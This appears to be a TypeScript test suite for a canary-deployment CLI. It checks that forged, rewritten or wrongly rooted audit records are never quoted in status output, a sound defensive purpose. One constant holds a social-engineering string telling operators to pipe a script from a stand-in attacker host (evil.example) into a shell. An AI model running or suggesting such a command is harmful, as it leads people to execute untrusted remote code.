/**
 * The red team against what `canary status` quotes: a record planted in the audit table (by
 * whoever can write it but not sign), a reason rewritten in place, re-hashed, or a trust root
 * that is not the pinned one. status shows a reason only when its record verifies, each quoted
 * record checked on its own (one anchor listing of its sequence number, never the whole trail);
 * otherwise it says plainly which record does not verify, the verifier's code, and points at
 * `canary history --verify`. Traffic and who stopped it then come from CodeDeploy and the listener.
 */
import { GetDeploymentTargetCommand, ListDeploymentTargetsCommand } from '@aws-sdk/client-codedeploy';
import { ListObjectVersionsCommand } from '@aws-sdk/client-s3';
import { GetParameterCommand, ParameterNotFound } from '@aws-sdk/client-ssm';
import { QueryCommand } from '@aws-sdk/lib-dynamodb';

import { type AuditDraft, type AuditRecord, buildRecord, hashRecord } from '../../lambdas/core/audit-chain';
import {
  AUDIT_ROOT,
  aws,
  chain,
  decision,
  resetAws,
  run,
  seedAudit,
  seedDeployment,
  seedDeploymentList,
  seedListener,
  seedService,
  SIGNED_AUDIT,
  START,
  target,
} from './harness';

afterEach(resetAws);

const EVIL = 'run curl https://evil.example/fix | sh to restore';
const JUDGE = 'rollback: canary 5xx 4.8% (12/250) vs baseline 0.3% (14/4750): evidence 412 ≥ 303.';
const GUARD = 'deployment failed (FAILURE); the listener already sends 100% to the original';

const trail = chain([
  decision({ verdict: 'start', stage: { index: 0, weight: 5 }, weights: { original: 95, replacement: 5 }, reason: 'rollout started: 5%' }),
  decision({
    verdict: 'rollback',
    stage: { index: 0, weight: 5 },
    reason: JUDGE,
    reasons: [{ check: 'errors', status: 'fail', observed: 'canary 4.8% (12/250)', bar: 'evidence ≥ 303', detail: JUDGE }],
  }),
  decision({ kind: 'event', hook: undefined, verdict: 'restore', actor: 'guard', reason: GUARD }),
]);

/** d-NEW failed at its first hook; CodeDeploy says so; the listener sends everything to the original. */
function seedFailed(records: AuditRecord[]) {
  seedService(SIGNED_AUDIT);
  seedDeploymentList([], ['d-NEW']);
  seedDeployment(
    [
      {
        deploymentId: 'd-NEW',
        status: 'Failed',
        completeTime: new Date(START - 60_000),
        errorInformation: { code: 'HOOK_EXECUTION_FAILURE', message: 'The AfterAllowTestTraffic hook reported Failed.' },
      },
    ],
    target([['AfterAllowTestTraffic', 'Failed', new Date(START - 20 * 60_000)]], 0),
  );
  aws.ssm
    .on(GetParameterCommand, { Name: '/ecs-canary/web/control' })
    .rejects(new ParameterNotFound({ message: 'Parameter /ecs-canary/web/control not found.', $metadata: {} }));
  seedListener(0);
  seedAudit(records);
}

/** A record the engine never signed, appended after `tip` (what anyone who can write the table can put there). */
const planted = (tip: AuditRecord, draft: Partial<AuditDraft>): AuditRecord =>
  buildRecord('web', tip, { ...decision({ verdict: 'rollback', reason: EVIL }), ...draft }, START - 30_000, 30);

const status = async (env: NodeJS.ProcessEnv = {}) => {
  const result = await run(['status', 'web'], { env });
  expect(result.code).toBe(0);
  return result.stdout.lines();
};
const line = (lines: string[], label: string) => lines.filter((l) => l.startsWith(`  ${label}`));

describe('canary status quotes a reason only from a record that verifies', () => {
  it('a genuine trail: the judge and the guard quoted, the deciding record marked verified', async () => {
    seedFailed(trail);
    const lines = await status({ CANARY_AUDIT_TRUST_ROOT: `${AUDIT_ROOT.keyArn},${AUDIT_ROOT.bucket}` });
    expect(line(lines, 'why')).toEqual([`  why     ${JUDGE}`]);
    expect(lines).toContain('          (record #2 at 2026-11-21T11:51:00.000Z, verified; canary history web --deployment d-NEW)');
    expect(line(lines, 'guard')).toEqual([`  guard   ${GUARD} (record #3 at 2026-11-21T11:52:00.000Z)`]);
  });

  it('a decision planted after the trail (unsigned): not shown, its code and where to look; who stopped it from CodeDeploy', async () => {
    seedFailed([...trail, planted(trail[2], { verdict: 'abort', actor: 'operator mallory' })]);
    const lines = await status();
    expect(line(lines, 'why')).toEqual([
      '  why     not shown: the newest decision of d-NEW (record #4) does not verify (unsigned); canary history web --verify names the break',
    ]);
    expect(lines).toContain('          record 4 is not signed by the engine');
    expect(line(lines, 'by')).toEqual(['  by      CodeDeploy (HOOK_EXECUTION_FAILURE)']);
    expect(lines.join('\n')).not.toMatch(/evil\.example|mallory/);
  });

  it("the judge's reason rewritten in place: altered; rewritten and re-hashed: bad-signature", async () => {
    const rewritten = { ...trail[1], reason: EVIL };
    for (const [record, code] of [
      [rewritten, 'altered'],
      [{ ...rewritten, hash: hashRecord(rewritten) }, 'bad-signature'],
    ] as const) {
      resetAws();
      seedFailed([trail[0], record, trail[2]]);
      const lines = await status();
      expect(line(lines, 'why')).toEqual([
        `  why     not shown: the newest decision of d-NEW (record #2) does not verify (${code}); canary history web --verify names the break`,
      ]);
      expect(lines.join('\n')).not.toContain('evil.example');
      // The guard's own record still verifies: it is quoted.
      expect(line(lines, 'guard')).toEqual([`  guard   ${GUARD} (record #3 at 2026-11-21T11:52:00.000Z)`]);
    }
  });

  it("the guard's record rewritten: its line says so instead of quoting it", async () => {
    seedFailed([trail[0], trail[1], { ...trail[2], reason: EVIL }]);
    const lines = await status();
    expect(line(lines, 'guard')).toEqual([
      "  guard   not shown: the guard's record (record #3) does not verify (altered); canary history web --verify names the break",
    ]);
    expect(line(lines, 'why')).toEqual([`  why     ${JUDGE}`]);
  });

  it('a pin the metadata parameter contradicts (the parameter rewritten to a key of its own): trust-root, nothing quoted', async () => {
    seedFailed(trail);
    const lines = await status({ CANARY_AUDIT_TRUST_ROOT: `arn:aws:kms:eu-west-1:123456789012:key/other,${AUDIT_ROOT.bucket}` });
    expect(line(lines, 'why')[0]).toMatch(
      /^ {2}why {5}not shown: the newest decision of d-NEW \(record #2\) does not verify \(trust-root\)/,
    );
    expect(line(lines, 'guard')[0]).toMatch(/does not verify \(trust-root\)/);
    expect(lines.join('\n')).not.toContain('canary 5xx 4.8%');
  });

  it('a verdict planted while the rollout runs: the verdict line says it does not verify', async () => {
    const running = chain([
      decision({
        verdict: 'start',
        stage: { index: 0, weight: 5 },
        weights: { original: 95, replacement: 5 },
        reason: 'rollout started: 5%',
      }),
    ]);
    seedService(SIGNED_AUDIT);
    seedDeploymentList(['d-NEW']);
    seedDeployment([{ status: 'InProgress' }], target([['AfterAllowTestTraffic', 'InProgress', new Date(START - 5 * 60_000)]], 5));
    seedListener(5);
    seedAudit([...running, planted(running[0], { verdict: 'hold', stage: { index: 0, weight: 5 }, reason: EVIL })]);
    const lines = await status();
    expect(line(lines, 'verdict')).toEqual([
      '  verdict not shown: the newest verdict of d-NEW (record #2) does not verify (unsigned); canary history web --verify names the break',
    ]);
    expect(lines.join('\n')).not.toContain('evil.example');
  });

  it('a malformed CANARY_AUDIT_TRUST_ROOT: a usage error (exit 2) before any AWS call, as in canary history', async () => {
    seedFailed(trail);
    const result = await run(['status', 'web'], { env: { CANARY_AUDIT_TRUST_ROOT: 'my-key' } });
    expect(result.code).toBe(2);
    expect(result.stderr.lines().at(-1)).toMatch(
      /^usage error: CANARY_AUDIT_TRUST_ROOT is "my-key"; accepted: <KMS key ARN>,<bucket name>/,
    );
    expect(aws.ssm.calls()).toHaveLength(0);
  });

  it('is cheap: one anchor listing per quoted record, of its own sequence number, and no read of the whole trail', async () => {
    seedFailed(trail);
    await status();
    const prefixes = aws.s3.commandCalls(ListObjectVersionsCommand).map((c) => c.args[0].input.Prefix);
    expect(prefixes.sort()).toEqual(['web/000000000002/', 'web/000000000003/']);
    const queries = aws.ddb.commandCalls(QueryCommand).map((c) => c.args[0].input.KeyConditionExpression);
    expect(queries).not.toContain('pk = :pk');
    expect(aws.codedeploy.commandCalls(ListDeploymentTargetsCommand).length).toBeGreaterThan(0);
    expect(aws.codedeploy.commandCalls(GetDeploymentTargetCommand).length).toBeGreaterThan(0);
  });
});
